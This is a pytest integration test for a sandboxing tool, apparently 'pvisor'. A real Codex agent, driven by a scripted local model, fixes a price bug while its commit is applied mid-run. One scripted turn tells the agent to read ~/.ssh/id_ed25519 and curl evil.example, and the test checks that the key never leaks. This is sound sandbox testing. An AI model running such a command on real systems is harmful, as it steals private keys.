# SPDX-License-Identifier: Apache-2.0
"""A real agent from npm repairs a small repository under --safe; its change and its commit are taken while it runs.

The model that it talks to is a script of this test's, on the host's loopback, reached because it was named.
"""
import json
import os
import pwd
import subprocess
import threading
from pathlib import Path

import pytest

from lib import agents
from lib.jobs import events, job_dirs

TOP = Path(__file__).resolve().parent.parent
SHOP = {
    ".gitignore": "__pycache__/\n",
    "price.py": "def total(items):\n    return sum(items) + 1\n",
    "test_price.py": "from price import total\n\nassert total([1, 2]) == 3\n",
}


@pytest.fixture(scope="module")
def codex():
    home = Path(pwd.getpwuid(os.geteuid()).pw_dir)
    directory = TOP / ".cache/agents" if os.access(TOP / ".cache", os.W_OK) else home / ".cache/pvisor-agents"
    try:
        return agents.codex(directory)
    except agents.Unreachable as e:
        pytest.skip(str(e))


@pytest.fixture
def model():
    opened = []

    def make(*turns):
        opened.append(agents.Model(*turns))
        return opened[-1]

    yield make
    for each in opened:
        each.close()


def command(pv, codex, port, *options):
    local = f'{{name="local",base_url="http://host.pvisor.internal:{port}/v1",wire_api="responses"}}'
    return [pv, "run", "--safe", "--name", "agent", "--mount", f"{codex.parent}:/agent:read", *options, "--",
            "/agent/codex", "exec", "--json", "-c", 'model_provider="local"', "-c", f"model_providers.local={local}",
            "-c", 'model="scripted"', "-c", 'sandbox_mode="danger-full-access"', "Repair the failing test"]


@pytest.mark.timeout(400)  # the first time it is fetched
def test_an_agent_repairs_a_test_and_its_commit_is_taken_while_it_runs(pv, pvisor, run, make_workspace, environment,
                                                                      codex, model):
    shop = make_workspace(SHOP, name="shop")
    go_on = threading.Event()
    script = model("$ cat price.py; python3 test_price.py",
                   "$ sed -i 's/ + 1//' price.py && python3 test_price.py && git add -A && git commit -qm 'Fix the total'",
                   "$ (cat ~/.ssh/id_ed25519; curl -sm 5 http://evil.example/) 2>&1; echo later > notes.txt",
                   go_on, "The total is right now.")
    (Path(environment["HOME"]) / ".ssh").mkdir()
    (Path(environment["HOME"]) / ".ssh/id_ed25519").write_text("PRIVATE")
    before = run(["git", "rev-parse", "HEAD"], cwd=shop).out
    allow = ["--overlaynet-allow", f"host.pvisor.internal:{script.port}"]
    agent = subprocess.Popen(command(pv, codex, script.port, *allow), cwd=shop, env=environment, text=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _ in range(4):  # the fourth question tells the outcome of the third command
            assert script.asked.acquire(timeout=60), agent.communicate(timeout=60)
        assert "PRIVATE" not in json.dumps(script.requests)

        # Nothing has landed, and the agent waits for its model.
        assert agent.poll() is None and run(["git", "rev-parse", "HEAD"], cwd=shop).out == before
        assert run(["python3", "test_price.py"], cwd=shop).code == 1
        report = json.loads(pvisor("apply", "agent", "--commits", "--json", cwd=shop).out)
        assert [r["to"] for r in report["commits"]] == ["refs/heads/main"]
        assert agent.poll() is None
        assert run(["git", "log", "--format=%s"], cwd=shop).out.split("\n")[:2] == ["Fix the total", "First"]
        assert run(["git", "status", "--porcelain"], cwd=shop).out == ""
        assert run(["python3", "test_price.py"], cwd=shop).code == 0
    finally:
        go_on.set()
        out, err = agent.communicate(timeout=60)
    assert agent.returncode == 0, err
    assert "The total is right now." in out

    # What came after is still staged; the record says what was refused.
    assert not (shop / "notes.txt").exists()
    assert "notes.txt" in pvisor("review", "agent", cwd=shop).out
    kinds = [e["event"] for e in events(job_dirs(environment)[-1])]
    assert "commits" in kinds
    pvisor("apply", "agent", "--all", cwd=shop)
    assert (shop / "notes.txt").read_text() == "later\n"


@pytest.mark.timeout(400)
def test_without_the_rule_it_reaches_no_model(pv, make_workspace, environment, codex, model):
    shop = make_workspace(SHOP, name="shop")
    script = model("Never said.")
    done = subprocess.run(command(pv, codex, script.port, "--timeout", "6s"), cwd=shop, env=environment, text=True,
                          stdin=subprocess.DEVNULL, capture_output=True, timeout=100)
    assert script.requests == [] and done.returncode in (1, 124) and "Never said." not in done.stdout
    assert "refused host.pvisor.internal" in done.stderr
